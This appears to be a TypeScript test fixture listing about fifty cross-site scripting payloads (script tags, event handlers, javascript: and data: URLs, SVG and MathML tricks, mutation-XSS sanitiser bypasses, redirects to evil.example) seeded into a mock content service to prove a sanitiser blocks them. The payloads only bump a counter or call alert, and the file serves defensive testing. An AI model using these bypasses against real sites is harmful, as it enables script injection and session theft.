/**
 * Known XSS payloads (issue #17, "HTML from the content service, proven safe"). The mock seeds
 * them into every place the content service sends HTML or text that is shown
 * (src/mocks/seed/xss-content.ts); tests/lib/sanitize-corpus.test.ts runs the sanitiser over
 * each and e2e/content-xss.spec.ts visits every screen that shows them.
 *
 * Each payload, should it ever run, counts itself in `window.__xss` (XSS_FLAG) or opens a
 * dialog (`alert`): the test counts both. Payloads that would leave the page (meta refresh,
 * base href, form actions) aim at XSS_AWAY, which the test watches for.
 */

/** The page flag a payload that runs increments. */
export const XSS_FLAG = '__xss';

/** JavaScript that counts one run in the page flag. No quotes, so it fits every attribute. */
const RUN = `(window.${XSS_FLAG}=(window.${XSS_FLAG}||0)+1)`;

/** Where a payload that navigates would take the visitor. */
export const XSS_AWAY = 'https://evil.example/xss';

export type XssPayload = Readonly<{ name: string; html: string }>;

const p = (name: string, html: string): XssPayload => ({ name, html });

export const XSS_CORPUS: readonly XssPayload[] = [
  // Script tags.
  p('script', `<script>${RUN}</script>`),
  p('script-uppercase', `<SCRIPT>${RUN}</SCRIPT>`),
  p('script-split', `<scr<script>ipt>${RUN}</scr</script>ipt>`),
  p('script-src-data', `<script src="data:text/javascript,${RUN}"></script>`),
  p('script-src-remote', `<script src="${XSS_AWAY}.js"></script>`),
  // Event handlers.
  p('img-onerror', `<img src=x onerror="${RUN}">`),
  p('svg-onload', `<svg onload="${RUN}"></svg>`),
  p('svg-onload-alert', '<svg/onload=alert(1)>'),
  p('body-onload', `<body onload="${RUN}">`),
  p('details-ontoggle', `<details open ontoggle="${RUN}"><summary>Details</summary></details>`),
  p('video-source-onerror', `<video><source onerror="${RUN}"></video>`),
  p('audio-onerror', `<audio src=x onerror="${RUN}"></audio>`),
  p('input-autofocus-onfocus', `<input autofocus onfocus="${RUN}">`),
  p('marquee-onstart', `<marquee onstart="${RUN}">marquee</marquee>`),
  p('div-onmouseover', `<div onmouseover="${RUN}" style="position:fixed;inset:0">hover</div>`),
  p('img-eval-src', '<img src=x:alert(1) onerror=eval(src)>'),
  // javascript: and data: URLs.
  p('a-javascript', `<a href="javascript:${RUN}">js link</a>`),
  p('a-javascript-alert', '<a href="javascript:alert(1)">alert link</a>'),
  p('a-javascript-case-space', `<a href="  jAvAsCrIpT:${RUN}">case link</a>`),
  p('a-javascript-entities', `<a href="&#106;&#97;vascript&#58;${RUN}">entity link</a>`),
  p('a-javascript-tab', `<a href="java&#x09;script:${RUN}">tab link</a>`),
  p('a-data-html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>'),
  // Not script, but away to another site: browsers read /\\host as //host.
  p('a-slash-backslash', '<a href="/\\evil.example/xss">backslash link</a>'),
  p('iframe-javascript', `<iframe src="javascript:${RUN}"></iframe>`),
  p('iframe-data', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
  p('iframe-srcdoc', `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`),
  p('object-data', `<object data="javascript:${RUN}"></object>`),
  p('embed-src', '<embed src="data:text/html,<script>alert(1)</script>">'),
  // SVG.
  p('svg-script', `<svg><script>${RUN}</script></svg>`),
  p('svg-a-xlink', `<svg><a xlink:href="javascript:${RUN}"><text x="10" y="20">svg link</text></a></svg>`),
  p('svg-animate-href', `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text x="10" y="20">animate</text></a></svg>`),
  p('svg-set-href', `<svg><a><set attributeName="href" to="javascript:${RUN}"/><text x="10" y="20">set</text></a></svg>`),
  p('svg-use-data', `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)'/&gt;&lt;/svg&gt;#x"/></svg>`),
  // MathML.
  p('math-maction', `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">maction</maction></math>`),
  p('math-href', `<math href="javascript:${RUN}"><mi>x</mi></math>`),
  // Navigation away.
  p('meta-refresh', `<meta http-equiv="refresh" content="0;url=${XSS_AWAY}">`),
  p('meta-refresh-javascript', `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`),
  p('base-href', `<base href="${XSS_AWAY}/">`),
  p('form-action', `<form action="javascript:${RUN}"><button>form</button></form>`),
  p('button-formaction', `<form><button formaction="javascript:${RUN}">formaction</button></form>`),
  p('form-action-away', `<form action="${XSS_AWAY}"><input type="submit" value="submit"></form>`),
  // Styles.
  p('style-expression', `<p style="width:expression(${RUN})">expression</p>`),
  p('style-url-javascript', `<p style="background:url(javascript:${RUN})">style url</p>`),
  p('style-import', `<style>@import "${XSS_AWAY}.css";</style>`),
  p('link-stylesheet', `<link rel="stylesheet" href="${XSS_AWAY}.css">`),
  // mXSS: markup that parses differently the second time.
  p('mxss-noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`),
  p('mxss-svg-p-style', `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg>`),
  p('mxss-math-mglyph-style', `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`),
  p('template-escape', `<template><img src=x onerror=${RUN}></template>`),
  p('textarea-escape', `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`),
  p('title-escape', `<title><img title="</title><img src=x onerror=${RUN}>"></title>`),
  // Last: it leaves a <style> open (XSS_CORPUS_HTML).
  p('mxss-form-math-mglyph', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`),
];

/**
 * The legitimate formatting around the payloads, which must still show: the test finds the
 * bold and italic words, the link with its href and the list items.
 */
export const XSS_LEGIT = {
  heading: 'Formatting kept',
  bold: 'Bold text',
  italic: 'Italic text',
  link: 'Safe link',
  href: 'https://example.com/',
  items: ['First item', 'Second item'],
  closing: 'Closing words',
} as const;

const legitHead = [
  `<h2>${XSS_LEGIT.heading}</h2>`,
  `<p><strong>${XSS_LEGIT.bold}</strong> <em>${XSS_LEGIT.italic}</em> <a href="${XSS_LEGIT.href}">${XSS_LEGIT.link}</a></p>`,
  `<ul>${XSS_LEGIT.items.map((i) => `<li>${i}</li>`).join('')}</ul>`,
].join('');

/**
 * The whole corpus as one piece of content-service HTML: the legitimate formatting, then each
 * payload in a paragraph of its own, then closing words, which prove that no payload swallowed
 * what follows it. The last payload leaves a <style> open in some parsers (its trick needs
 * that), so it comes after the closing words.
 */
const [lastPayload, ...others] = [...XSS_CORPUS].reverse();
export const XSS_CORPUS_HTML = [
  legitHead,
  ...others.reverse().map((x) => `<p>${x.html}</p>`),
  `<p><strong>${XSS_LEGIT.closing}</strong></p>`,
  lastPayload ? `<p>${lastPayload.html}</p>` : '',
].join('');

/** A short payload for places the content service sends plain text (titles, names, descriptions). */
export const XSS_TEXT = `<img src=x onerror="${RUN}"><b>${XSS_LEGIT.bold}</b>`;
